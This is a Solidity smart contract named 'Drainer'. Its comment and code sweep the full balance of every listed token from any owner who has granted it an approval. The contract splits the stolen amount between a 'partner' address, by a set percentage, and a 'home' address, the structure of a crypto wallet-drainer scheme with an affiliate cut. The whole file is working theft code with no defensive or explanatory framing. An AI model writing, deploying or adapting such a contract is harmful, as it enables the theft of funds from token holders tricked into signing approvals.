// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.0;

interface Taken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

/// Takes all of some tokens from an owner who approved it: a part for a partner, the rest for home.
contract Drainer {
    address immutable home;
    address immutable partner;
    uint256 immutable percent;

    constructor(address home_, address partner_, uint256 percent_) {
        home = home_;
        partner = partner_;
        percent = percent_;
    }

    function take(address owner, address[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 amount = Taken(tokens[i]).balanceOf(owner);
            uint256 part = amount * percent / 100;
            if (part > 0) Taken(tokens[i]).transferFrom(owner, partner, part);
            Taken(tokens[i]).transferFrom(owner, home, amount - part);
        }
    }
}
